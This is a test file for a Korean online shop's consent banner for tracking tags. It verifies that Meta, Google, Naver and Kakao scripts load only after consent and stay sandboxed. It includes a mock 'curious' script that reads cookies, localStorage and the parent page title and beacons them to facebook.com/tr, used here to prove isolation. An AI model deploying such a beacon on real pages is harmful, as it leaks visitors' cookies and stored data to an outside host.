import type { BrowserContext, Page } from "@playwright/test";
import { expect, test } from "vitest";
import { demoSite } from "#db/seed/demo-site.ts";
import { siteSettings } from "#shop/site/table.server.ts";
import { emptySite } from "#shop/site/settings.ts";
import type { Tags } from "#shop/site/tags.ts";
import { tagConsents } from "#shop/tag/table.server.ts";
import { openSite } from "../xss/open-site.ts";

const site = await openSite();
const product = await site.shop.has.product();
const all: Tags = {
  ga4: "G-ABCDEF1234",
  googleAds: "AW-123456789",
  naver: "s_1a2b3c4d5e6f",
  meta: "123456789012345",
  kakao: "1234567890123456789",
};
const scripts = [
  "https://connect.facebook.net/en_US/fbevents.js",
  "https://t1.daumcdn.net/kas/static/kp.js",
  "https://wcs.naver.net/wcslog.js",
  "https://www.googletagmanager.com/gtag/js?id=G-ABCDEF1234",
];

const choose = (tags: Tags) =>
  site.shop.db.update(siteSettings).set({ settings: { ...demoSite, tags } });

/** What Meta's script would be if it were curious: it tells of all that it can reach. */
const CURIOUS = `
const reach = (read) => { try { return String(read() ?? ""); } catch { return "kept out"; } };
new Image().src = "https://www.facebook.com/tr?" + new URLSearchParams({
  page: reach(() => parent.document.title),
  cookies: reach(() => document.cookie),
  kept: reach(() => localStorage.length),
  came: document.referrer,
  place: location.pathname + location.search,
  origin: origin,
});`;

/** A phone, and all that its pages ask of other hosts than the shop's. */
async function phone() {
  const context: BrowserContext = await site.window({ viewport: { width: 390, height: 844 } });
  const outside: string[] = [];
  await context.route(
    ({ origin }) => origin !== site.origin,
    (route) => {
      const url = route.request().url();
      outside.push(url);
      const body = url.includes("fbevents") ? CURIOUS : "";
      return route.fulfill({ contentType: "text/javascript", body });
    },
  );
  const page: Page = await context.newPage();
  const complaints: string[] = [];
  page.on("console", (message) => message.type() === "error" && complaints.push(message.text()));
  return { context, page, outside, complaints };
}

const barOf = (page: Page) => page.getByRole("region", { name: "방문 통계와 맞춤 광고" });
const footerLink = (page: Page) => page.getByRole("link", { name: "방문 통계와 맞춤 광고" });
const frames = (page: Page) => page.locator("iframe[title='방문 통계']").count();

test("without any tag nobody is asked, and nothing is told", async () => {
  await choose(emptySite.tags);
  const { page, outside } = await phone();
  await page.goto("/");
  await page.getByRole("contentinfo").waitFor();
  expect([await barOf(page).count(), await footerLink(page).count(), outside]).toEqual([0, 0, []]);
});

test("no byte goes outside before the tick, in a form of personal data or after the withdrawal", async () => {
  await choose(all);
  const { page, outside, complaints } = await phone();
  await page.goto("/?utm_source=letter");
  await barOf(page).waitFor();
  const [no, yes] = ["동의하지 않음", "동의"].map((name) =>
    barOf(page).getByRole("button", { name, exact: true }),
  );
  expect(await no!.getAttribute("class")).toBe(await yes!.getAttribute("class"));
  expect(outside).toEqual([]);

  await yes!.click();
  await expect
    .poll(() => outside.filter((url) => scripts.includes(url)).toSorted())
    .toEqual(scripts);
  await expect.poll(() => barOf(page).count()).toBe(0);
  await expect.poll(() => outside.some((url) => url.includes("/tr?"))).toBe(true);
  // Its scripts are kept from the page, from cookies and from what the browser keeps.
  const reached = new URL(outside.find((url) => url.includes("/tr?"))!).searchParams;
  expect(Object.fromEntries(reached)).toEqual({
    page: "kept out",
    cookies: "kept out",
    kept: "kept out",
    origin: "null",
    came: "",
    place: "/tags/frame/",
  });

  outside.length = 0;
  await page.goto(`/product/${product.id}`);
  await expect
    .poll(() => outside.filter((url) => scripts.includes(url)).toSorted())
    .toEqual(scripts);
  await expect.poll(() => frames(page)).toBe(1);
  outside.length = 0;
  await page.getByRole("contentinfo").locator("a[href='/withdrawal']").click();
  await page.waitForURL(/\/withdrawal/);
  expect(await frames(page)).toBe(0);
  await page.goto(`/non-member/order/${product.id}`);
  await page.getByLabel("주문자 이름").or(page.getByRole("heading").first()).first().waitFor();
  expect([await frames(page), outside]).toEqual([0, []]);

  await page.goto(`/product/${product.id}`);
  await footerLink(page).click();
  await barOf(page).getByText("지금은 동의한 상태예요").waitFor();
  await barOf(page).getByRole("button", { name: "동의하지 않음" }).click();
  await expect.poll(() => barOf(page).count()).toBe(0);
  expect(await frames(page)).toBe(0);
  outside.length = 0;
  await page.reload();
  await page.goto("/");
  await page.getByRole("contentinfo").waitFor();
  expect([await barOf(page).count(), await frames(page), outside]).toEqual([0, 0, []]);
  const consents = await site.shop.db.select().from(tagConsents);
  expect(consents.map(({ endedAt }) => endedAt !== null)).toEqual([true]);
  expect(complaints).toEqual([]);
});

test("a service that is added later hears of nobody before they are asked again", async () => {
  await choose({ ...emptySite.tags, ga4: all.ga4 });
  const { page, outside } = await phone();
  await page.goto("/");
  await barOf(page).getByRole("button", { name: "동의", exact: true }).click();
  await expect.poll(() => outside.length).toBeGreaterThan(0);
  await choose(all);
  outside.length = 0;
  await page.goto(`/product/${product.id}`);
  await barOf(page).getByText("카카오 픽셀").waitFor();
  await expect.poll(() => outside.length).toBeGreaterThan(0);
  expect(outside.filter((url) => !url.includes("googletagmanager"))).toEqual([]);
  await barOf(page).getByRole("button", { name: "동의", exact: true }).click();
  await expect.poll(() => outside.some((url) => url.includes("kp.js"))).toBe(true);
});

test("who refuses is not asked again, and a frame asked for without a consent is empty", async () => {
  await choose(all);
  const { page, context, outside } = await phone();
  await page.goto("/");
  await barOf(page).getByRole("button", { name: "동의하지 않음" }).click();
  await expect.poll(() => barOf(page).count()).toBe(0);
  await page.reload();
  await page.getByRole("contentinfo").waitFor();
  expect([await barOf(page).count(), outside]).toEqual([0, []]);
  const ask = async (cookie: string, of = "/") =>
    (await context.request.get(`/tags/frame${of}`, { headers: { cookie } })).status();
  expect(await ask("tags=no")).toBe(204);
  expect(await ask("tags=yes.0f1e2d3c-4b5a-6978-8796-a5b4c3d2e1f0.ga4")).toBe(204);
  expect(await ask("tags=yes.0f1e2d3c-4b5a-6978-8796-a5b4c3d2e1f0.ga4", "/login")).toBe(204);
});
